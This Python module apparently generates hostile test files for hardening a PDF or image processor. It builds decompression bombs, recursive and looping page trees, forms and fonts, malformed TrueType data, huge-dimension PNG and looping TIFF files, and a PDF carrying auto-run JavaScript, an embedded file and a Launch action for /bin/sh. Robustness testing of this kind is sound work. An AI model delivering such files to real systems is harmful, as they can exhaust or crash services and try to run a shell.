"""Files made to do harm: each function returns the bytes of one."""

import random
import struct
import zlib
from collections.abc import Sequence

_MB = 1024 * 1024


def pdf_of(*objects: bytes, trailer: bytes = b"") -> bytes:
    """Return a PDF of these objects, numbered from 1; the first is its root."""
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj %s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    head = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    end = b"trailer<</Root 1 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, len(data))
    return data + head + table + end


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(content), entries, content)


def one_page(
    content: bytes,
    *,
    box: bytes = b"0 0 595 842",
    resources: bytes = b"",
    page: bytes = b"",
    more: Sequence[bytes] = (),
) -> bytes:
    """Return a PDF with one page: `content` is object 4, the font 5, `more` go on from 6."""
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>%s>>"
        % (box, resources, page),
        content,
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *more,
    )


def text(words: bytes) -> bytes:
    return stream(b"BT /F 12 Tf 72 700 Td (%s) Tj ET" % words)


def packed_twice(megabytes: int, byte: bytes = b" ") -> bytes:
    """Return so many megabytes of one byte, packed twice: a thousandth of a thousandth is left."""
    packer = zlib.compressobj(9)
    inner = b"".join(packer.compress(byte * _MB) for _ in range(megabytes)) + packer.flush()
    return zlib.compress(inner, 9)


def bomb_of_text(megabytes: int) -> bytes:
    """A page whose content unpacks to so many megabytes."""
    content = stream(packed_twice(megabytes), b"/Filter[/FlateDecode/FlateDecode]")
    return one_page(content)


def bomb_of_pixels(side: int) -> bytes:
    """A page with a picture of so many pixels square, of which the file holds next to nothing."""
    image = stream(
        packed_twice(side * side // _MB),
        b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceGray/BitsPerComponent 8"
        b"/Filter[/FlateDecode/FlateDecode]" % (side, side),
    )
    return one_page(stream(b"q 595 0 0 842 0 0 cm /I Do Q"), resources=b"/XObject<</I 6 0 R>>", more=[image])


def bomb_of_objects(megabytes: int) -> bytes:
    """A PDF whose page tree stands in an object stream that unpacks to so many megabytes."""
    body = stream(packed_twice(megabytes), b"/Type/ObjStm/N 1/First 8/Filter[/FlateDecode/FlateDecode]")
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", body)


def many_pages(count: int) -> bytes:
    """A PDF of so many empty pages, all of them the same object but for its number."""
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d/MediaBox[0 0 595 842]>>" % (kids, count),
        *[b"<</Type/Page/Parent 2 0 R>>"] * count,
    )


def claimed_pages(count: int) -> bytes:
    """A PDF that says that it has so many pages and has one."""
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count %d>>" % count,
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def deep_arrays(depth: int) -> bytes:
    """A page with an array in an array in an array."""
    return one_page(text(b"diep"), page=b"/Deep " + b"[" * depth + b"]" * depth)


def deep_content(depth: int) -> bytes:
    """A page whose content nests dictionaries and saves its state without end."""
    return one_page(stream(b"q " * depth + b"/X " + b"<</A " * depth + b">>" * depth + b" BDC " + b"[" * depth))


def deep_tree(depth: int) -> bytes:
    """A page tree in which each node has one node below it."""
    nodes = [b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % number for number in range(3, depth + 3)]
    return pdf_of(b"<</Type/Catalog/Pages 2 0 R>>", *nodes, b"<</Type/Page/MediaBox[0 0 595 842]>>")


def looping_tree() -> bytes:
    """A page tree that is its own branch."""
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2/Parent 3 0 R>>",
        b"<</Type/Pages/Kids[2 0 R]/Count 1/Parent 2 0 R>>",
    )


def looping_form() -> bytes:
    """A page with a form that draws itself, twice."""
    form = stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X 6 0 R>>>>")
    return one_page(stream(b"/X Do"), resources=b"/XObject<</X 6 0 R>>", more=[form])


def doubling_forms(levels: int) -> bytes:
    """A page with forms that each draw the next one many times: so many to the power of the levels."""
    forms = [
        stream(
            b"/X Do " * 20,
            b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X %d 0 R>>>>" % number,
        )
        for number in range(7, levels + 7)
    ]
    last = stream(b"BT /F 8 Tf (x) Tj ET", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F 5 0 R>>>>")
    return one_page(stream(b"/X Do"), resources=b"/XObject<</X 6 0 R>>", more=[*forms, last])


def looping_length() -> bytes:
    """A stream whose length is that of itself, and references that lead in circles."""
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R/Names 6 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox 5 0 R/Contents 4 0 R>>",
        b"<</Length 4 0 R>>stream\nBT ET\nendstream",
        b"5 0 R",
        b"7 0 R",
        b"6 0 R",
    )


def with_font(font: bytes, *more: bytes) -> bytes:
    """A page whose words are set in this font; `more` go on from object 6."""
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>",
        text(b"aaaa"),
        font,
        *more,
    )


def garbled_font(seed: int) -> bytes:
    """A page in a TrueType font of which each table lies somewhere else and holds anything."""
    chance = random.Random(seed)  # noqa: S311 - the same font each run
    names = (b"cmap", b"glyf", b"head", b"hhea", b"hmtx", b"loca", b"maxp", b"name", b"post", b"fpgm", b"prep", b"cvt ")
    table = b"".join(name + struct.pack(">III", 0, chance.getrandbits(32), chance.getrandbits(32)) for name in names)
    data = b"\0\1\0\0" + struct.pack(">HHHH", len(names), 128, 3, 64) + table + chance.randbytes(2000)
    return with_font(
        b"<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar 97/LastChar 97/Widths[-99999999]/FontDescriptor 6 0 R>>",
        b"<</Type/FontDescriptor/FontName/X/Flags 4/FontBBox[1e38 -1e38 0 0]/FontFile2 7 0 R>>",
        stream(data, b"/Length1 4294967295"),
    )


def looping_font() -> bytes:
    """A page in a font whose letter is drawn by writing that letter."""
    return with_font(
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]"
        b"/Encoding<</Differences[97/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>",
        stream(b"9 0 d0 BT /F 1 Tf (aaaaaaaa) Tj ET"),
    )


def endless_codes() -> bytes:
    """A page in a font that says which letters four thousand million codes stand for."""
    codes = b"begincmap 1 begincodespacerange <00000000> <ffffffff> endcodespacerange "
    codes += b"1 beginbfrange <00000000> <fffffffe> <0041> endbfrange endcmap"
    return with_font(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>", stream(codes))


def endless_widths() -> bytes:
    """A page in a font that says how wide two thousand million of its letters are."""
    return with_font(
        b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[6 0 R]>>",
        b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)"
        b"/Supplement 0>>/W[0 2000000000 500]/DW 1000/FontDescriptor 7 0 R>>",
        b"<</Type/FontDescriptor/FontName/X/Flags 4/FontBBox[0 0 9 9]>>",
    )


def with_script_and_attachment(words: bytes, hidden: bytes) -> bytes:
    """A page of text in a PDF that opens with a script and carries a file."""
    return pdf_of(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('%s'\\);)>>"
        b"/Names<</EmbeddedFiles<</Names[(a.txt)6 0 R]>>/JavaScript<</Names[(x)<</S/JavaScript/JS(%s)>>]>>>>"
        b"/AcroForm<</XFA(%s)>>>>" % (hidden, hidden, hidden),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>"
        b"/AA<</O<</S/Launch/F(/bin/sh)>>>>"
        b"/Annots[<</Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(http://127.0.0.1:9/)>>>>]>>",
        text(words),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        b"<</Type/Filespec/F(a.txt)/EF<</F 7 0 R>>>>",
        stream(hidden, b"/Type/EmbeddedFile"),
    )


def png_of(width: int, height: int, *, chunks: bytes = b"") -> bytes:
    """A PNG that says that it has so many pixels, and holds a row."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(bytes(min(width, 10_000) + 1))
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + chunks + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")


def png_chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def looping_tiff() -> bytes:
    """A TIFF whose first page says that the next page is the first one."""
    entries = [(256, 3, 1, 1), (257, 3, 1, 1), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 200)]
    entries += [(277, 3, 1, 1), (278, 3, 1, 1), (279, 4, 1, 1)]
    packed = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + packed + struct.pack("<I", 8) + bytes(200)
